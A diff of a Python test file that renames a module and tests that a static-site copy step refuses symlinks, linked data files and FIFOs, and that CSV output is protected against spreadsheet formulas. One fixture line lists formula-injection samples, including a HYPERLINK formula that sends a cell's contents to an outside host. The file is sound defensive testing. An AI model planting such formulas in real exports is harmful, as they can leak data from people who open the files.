@@ -320,21 +320,21 @@ def test_the_site_copy_never_follows_a_link(
 ) -> None:
     """The copy step itself (the build refuses earlier, but a link made during a build must not
     be followed either): it refuses before copying, and never enters a linked folder."""
-    from sirkbok.book import contained
+    from sirkbok.book import site_copy
     from sirkbok.core.files import copy_plain
 
     out = tmp_path / "html"
     replace_with_link(book / REGION, outside_copy(book / REGION, outside_secret))
     (outside_secret.parent / REGION.split("/")[-1] / "figurer").mkdir()
-    contained.copy_figures(book, out)  # the linked region folder is never entered
+    site_copy.copy_figures(book, out)  # the linked region folder is never entered
     assert not (out / REGION).exists()
     figure = link_in_figures(book, outside_secret)
     with pytest.raises(UserError, match=LINKED):
-        contained.copy_figures(book, out)
+        site_copy.copy_figures(book, out)
     (book / figure).unlink()
     linked_data_file(book, outside_secret)
-    with pytest.raises(contained.Refused, match="data/aktorer.csv"):
-        contained.publish(book, out)
+    with pytest.raises(site_copy.Refused, match="data/aktorer.csv"):
+        site_copy.publish(book, out)
     folder = tmp_path / "mappe"
     folder.mkdir()
     os.mkfifo(folder / "rør")
@@ -367,7 +367,7 @@ FORMULAS = ('=HYPERLINK("http://example.org/?"&A1,"Klikk her")', "@SUM(1+1)", "-
 
 
 def test_formula_safe_quotes_text_and_leaves_numbers() -> None:
-    from sirkbok.book.contained import formula_safe
+    from sirkbok.book.site_copy import formula_safe
 
     text = 'a,b,c,d\n=1+1,-5,"\tx",-0.25e3\n"\rz",@x,+4,12\n'
     rows = list(csv.reader(io.StringIO(formula_safe(text), newline="")))
